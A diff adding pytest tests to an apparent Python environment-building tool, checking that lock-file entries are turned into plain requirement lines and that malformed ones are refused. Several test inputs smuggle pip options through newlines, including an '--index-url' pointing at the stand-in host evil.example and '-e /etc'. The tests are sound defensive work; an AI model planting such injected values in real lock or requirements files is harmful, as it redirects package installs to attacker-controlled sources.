@@ -516,3 +516,43 @@ def test_include_config_keeps_links_inside_the_checkout(tmp_path):
     found = venv._copy_config(source, venv_dir, PurePosixPath('/opt/app'))
     assert found == (PurePosixPath('/opt/app/etc/app.conf'),)
     assert os.readlink(venv_dir / 'etc' / 'alias.conf') == 'app.conf'
+
+
+PYLOCK = '''\
+[[packages]]
+name = "six"
+version = "1.16.0"
+
+[[packages]]
+name = "idna"
+version = "3.7"
+marker = "python_version>='3.8'"
+
+[[packages]]
+name = "hello-app"
+directory = { path = "/work/src" }
+'''
+
+
+def test_a_resolution_becomes_plain_requirement_lines(tmp_path):
+    lock = tmp_path / 'pylock.toml'
+    lock.write_text(PYLOCK)
+    assert installers._resolved(lock) == [
+        ('six', '1.16.0', ''), ('idna', '3.7', 'python_version >= "3.8"')]
+
+
+@pytest.mark.parametrize('entry', [
+    'name = "six"\nversion = "1.16.0\\n--index-url http://evil.example/s"',
+    'name = "--editable=/etc"\nversion = "1.16.0"',
+    'name = "six"\nversion = "1.16.0"\n'
+    'marker = "python_version >= \'3.8\'\\n-e /etc"',
+    'name = "six"\nversion = "1.16.0"\nmarker = "not a marker"'])
+def test_a_resolution_that_is_not_plain_is_refused(tmp_path, entry):
+    """A cached resolution is a file: what it names is checked before it
+    is written into a requirements file, as a lock's pins are."""
+    lock = tmp_path / 'pylock.toml'
+    lock.write_text(PYLOCK + f'\n[[packages]]\n{entry}\n')
+    with pytest.raises(errors.BuildError) as caught:
+        installers._resolved(lock)
+    assert 'not a plain name, version and marker' in caught.value.what
+    assert 'prune --kind discover' in caught.value.hint
